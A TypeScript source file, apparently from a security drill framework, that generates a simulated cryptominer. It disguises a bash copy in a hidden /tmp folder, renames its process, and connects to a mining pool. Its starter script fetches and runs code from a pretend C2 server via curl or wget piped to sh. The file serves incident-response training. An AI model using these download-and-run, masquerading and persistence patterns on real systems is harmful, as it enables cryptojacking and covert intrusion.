import { basename } from 'node:path';
import { C2, STARTS_FILE } from '../places.ts';
import { REFUSAL } from './refusal.ts';
import { shellWord } from './shell-word.ts';

/** Names that a scenario chooses for its miner. */
export interface MinerNames {
  /** Folder of the program, e.g. `/tmp/.X19-unix`. */
  readonly folder: string;
  /** A copy of bash under a miner's name. */
  readonly program: string;
  /** What it runs. */
  readonly script: string;
  /** Starts it again; called by every persistence entry. */
  readonly starter: string;
  /** What the pretend C2 server hands out. */
  readonly download: string;
  readonly poolAddress: string;
  readonly poolPort: number;
  readonly wallet: string;
  /** Of several miners the one that is started again. */
  readonly part?: string;
}

export function minerArguments(names: MinerNames): string[] {
  return [
    `${names.folder}/${names.script}`,
    ...['-o', `stratum+tcp://${names.poolAddress}:${names.poolPort}`, '-u', names.wallet, '-p', 'x'],
    ...['-a', 'rx/0', '-k', '--donate-level', '1', '-B'],
  ];
}

export interface MinerManners {
  /** What else it does, some ten times a second. */
  readonly eachTurn?: string;
  /** Of a tenth of a second, what it computes; default a little more than half. */
  readonly burnsMicroseconds?: number;
}

/**
 * The pretend miner, for bash 4.2 and later: one core for a little more than half of the time, one connection to
 * the pool, a line of stratum-shaped JSON now and then, and an end after 30 minutes. It works nothing out.
 * Pool and wallet by `-o` and `-u`, or from the file that `-c` names. `-n NAME`: what it calls itself.
 */
export function minerScript({ eachTurn = '', burnsMicroseconds = 55_000 }: MinerManners = {}): string {
  return String.raw`${REFUSAL}
trap '' PIPE HUP
LC_ALL=C
while [ $# -gt 0 ]; do
  case $1 in
    -o) pool=${'$'}{2#stratum+tcp://}; shift ;;
    -u) wallet=$2; shift ;;
    -n) printf %s "$2" > /proc/self/comm; shift ;;
    -c) while IFS='": ,' read -r _ key value _; do
          case $key in url) pool=$value ;; user) wallet=$value ;; esac
        done < "$2"; shift ;;
  esac
  shift
done
printf '%(%s)T %s %s\n' -1 "$$" "${'$'}{STARTED_BY-unknown}" >> "$drill/${basename(STARTS_FILE)}"
ends=$((SECONDS + 1800)) x=1 said=0 tries=0 connection=
exec {idle}<> <(:) && wait $! 2> /dev/null

dial() {
  tries=$SECONDS
  { exec {connection}<> "/dev/tcp/${'$'}{pool%:*}/${'$'}{pool##*:}"; } 2> /dev/null || { connection=; return; }
  printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0 (drill)","algo":["rx/0"]}}\n' "$wallet" >&"$connection"
  said=$SECONDS
}

burn() {
  local i
  if [ -z "${'$'}{EPOCHREALTIME-}" ]; then
    for ((i = 0; i < 15000; i++)); do ((x = (x * 1103515245 + 12345) & 2147483647)); done
    return
  fi
  local from=${'$'}{EPOCHREALTIME/[.,]/}
  while ((${'$'}{EPOCHREALTIME/[.,]/} - from < ${burnsMicroseconds})); do
    for ((i = 0; i < 200; i++)); do ((x = (x * 1103515245 + 12345) & 2147483647)); done
  done
}

dial
while ((SECONDS < ends)); do
  burn${eachTurn}
  if [ -n "$connection" ]; then
    IFS= read -r -t 0.045 -u "$connection" line
    status=$?
    if ((status != 0 && status <= 128)); then
      exec {connection}>&-
      connection=
    elif ((SECONDS - said >= 15)); then
      printf '{"id":2,"jsonrpc":"2.0","method":"keepalived","params":{"id":"drill"}}\n' >&"$connection"
      said=$SECONDS
    fi
  else
    read -r -t 0.045 -u "$idle" line
    ((SECONDS - tries < 5)) || dial
  fi
done
`;
}

export const MINER_SCRIPT: string = minerScript();

function partOf({ part }: MinerNames): string {
  return part === undefined ? '' : `DRILL_PART='${part}' `;
}

/** What every persistence entry calls: `starter BY`. The lock is held for as long as the miner lives. */
export function starterScript(names: MinerNames): string {
  return `#!/bin/sh
${REFUSAL}
d=${shellWord(names.folder)}
if [ ! -x "$d"/${shellWord(names.program)} ] || [ ! -r "$d"/${shellWord(names.script)} ]; then
  { curl -fsSL -m 20 http://${C2.address}/${names.download} || wget -q -T 20 -O- http://${C2.address}/${names.download}; } 2> /dev/null | sh -s "${'$'}{1-starter}"
  exit
fi
exec 9>> "$d/.lock"
flock -n 9 || exit 0
STARTED_BY=${'$'}{1-starter} ${partOf(names)}setsid nice -n 19 "$d"/${shellWord(names.program)} ${minerArguments(names).map(shellWord).join(' ')} < /dev/null > /dev/null 2>&1 &
`;
}

/** What the pretend C2 server serves: puts the miner back and starts it. */
export function installerScript(names: MinerNames): string {
  return `${REFUSAL}
d=${shellWord(names.folder)}
mkdir -p "$d" 2> /dev/null && chmod 777 "$d" 2> /dev/null
[ -x "$d"/${shellWord(names.program)} ] || cp /bin/bash "$d"/${shellWord(names.program)}
cat > "$d"/${shellWord(names.script)} << 'END_OF_MINER'
${MINER_SCRIPT}END_OF_MINER
exec 9>> "$d/.lock"
flock -n 9 || exit 0
STARTED_BY=${'$'}{1-download} ${partOf(names)}setsid nice -n 19 "$d"/${shellWord(names.program)} ${minerArguments(names).map(shellWord).join(' ')} < /dev/null > /dev/null 2>&1 &
`;
}
